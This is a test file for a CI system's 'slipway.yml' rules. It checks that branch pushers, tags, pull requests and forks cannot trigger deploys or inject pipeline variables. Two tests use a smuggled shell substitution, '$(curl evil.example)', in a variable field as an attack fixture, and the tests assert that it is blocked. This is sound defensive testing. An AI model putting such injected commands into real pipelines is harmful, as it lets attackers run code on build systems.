import { people } from '../../../emulator/demo/people';
import { demoRepository } from '../../../emulator/demo/seed';
import { cloneRepository } from '../../support/git-client';
import { executionsOf } from '../../support/product';
import { decisionsOf } from '../../support/product-decisions';
import type { YmlProduct } from '../../support/product-yml';
import { everything, rulesFile, startYmlProduct } from '../../support/product-yml';

const onMain = rulesFile({ Checks: ['mainOnly: true'], Deploy: ['mainOnly: true'] });

describe('whoever may push a branch, and so writes its slipway.yml,', () => {
  let yml: YmlProduct;
  beforeAll(async () => {
    yml = await startYmlProduct();
    await yml.push('main', onMain, 'second');
    const { version } = await yml.load();
    expect(await yml.set('file', version)).toMatchObject({ ok: true });
  });
  afterAll(() => yml.product.close());
  beforeEach(() => yml.backToMain());

  it('starts nothing that deploys, by a branch, a tag or a pull request into a branch of their own', async () => {
    const before = yml.count('deploy');
    const greedy = rulesFile({ Deploy: [...everything, 'pullRequests: {}'] });
    await yml.push('attack', greedy);
    expect(yml.lastVerdicts()).toEqual(['skip unmerged']);
    await yml.tag('v9');
    expect(yml.lastVerdicts()).toEqual(['skip unmerged']);
    await yml.push('attack-2', greedy);
    await yml.pullRequest('attack-2', 'attack');
    expect(yml.lastVerdicts()).toEqual(['skip unmerged']);
    expect(yml.count('deploy')).toBe(before);
  });

  it('chooses nothing that a pipeline’s variables hold', async () => {
    const evil = "variables: { REVISION: '$(curl evil.example)' }";
    const anyText = 'anyText: [REVISION]';
    const pushedVariables = () => executionsOf(yml.product, 'checks').map(({ variables }) => variables);
    const given = () => pushedVariables().map((each) => JSON.stringify(each));
    const starts = yml.count('checks');
    const own = rulesFile({ Checks: [...everything, 'pullRequests: {}', 'runAgain: true', evil, anyText] });
    await yml.push('evil', own);
    await yml.tag('v8');
    await yml.push('evil-2', own);
    await yml.pullRequest('evil-2', 'evil');
    expect(yml.count('checks')).toBe(starts + 4);
    expect(given().filter((each) => each.includes('evil'))).toEqual([]);
    expect(decisionsOf(yml.product).flatMap(({ verdicts }) => verdicts)).toContain('start  main');
    await yml.backToMain();
    const merged = rulesFile({ Checks: [...everything, "variables: { REVISION: 'of ${commit}' }"] });
    await yml.push(
      'main',
      merged.replace(
        '  - name: Checks',
        '  - name: Deploy\n    rules: [{ name: pushes, mainOnly: true }]\n  - name: Checks',
      ),
      'variables',
    );
    await yml.backToMain();
    const commit = await yml.push('evil-3', own);
    expect(given().filter((each) => each.includes('evil'))).toEqual([]);
    expect(given().filter((each) => each.includes(`of ${commit}`))).toHaveLength(1);
    await yml.backToMain();
    await yml.push('main', onMain, 'narrow again');
  });

  it('decides no pull request into main by a branch that is named like the commit of main', async () => {
    const evil = "variables: { REVISION: '$(curl evil.example)' }";
    const own = rulesFile({ Checks: [...everything, 'pullRequests: {}', evil, 'anyText: [REVISION]'] });
    const main = await yml.product.copy.git('rev-parse', 'origin/main');
    await yml.push(main.slice(0, 12), own, 'like-main');
    await yml.backToMain();
    await yml.push('into-main', undefined);
    const starts = yml.count('checks');
    await yml.pullRequest('into-main');
    expect(yml.count('checks')).toBe(starts);
    expect(yml.lastVerdicts()).toEqual(['skip no-file', 'skip no-file']);
  });

  it('of a fork is not read at all', async () => {
    const taking = rulesFile({ Checks: ['mainOnly: true', 'pullRequests: {}'], Deploy: ['mainOnly: true'] });
    await yml.push('main', taking, 'pull requests');
    yml.product.emulator.bitbucket.seed.createWorkspace({
      slug: 'guest',
      name: 'Guest',
      owners: [people.writer],
    });
    yml.product.emulator.bitbucket.seed.createRepository({
      workspace: 'guest',
      slug: 'shop',
      forkOf: demoRepository,
    });
    const fork = await cloneRepository(yml.product.emulator.bitbucket.cloneUrl('guest/shop', people.writer));
    const head = await fork.commit('Fork', { 'slipway.yml': 'not: [a file' });
    await fork.git('push', '--quiet', 'origin', 'HEAD:refs/heads/theirs');
    const { id } = await yml.product.emulator.bitbucket.seed.createPullRequest({
      ...{ repository: demoRepository, sourceRepository: 'guest/shop', sourceBranch: 'theirs' },
      ...{ title: 'From a fork', authorAccountId: people.writer },
    });
    await yml.settle();
    await fork.remove();
    expect(yml.product.statuses(head)).toEqual([]);
    expect(await yml.shownOn(id)).toBeUndefined();
    expect(yml.lastVerdicts()?.[0]).toMatch(/^skip fork-/);
  });
});
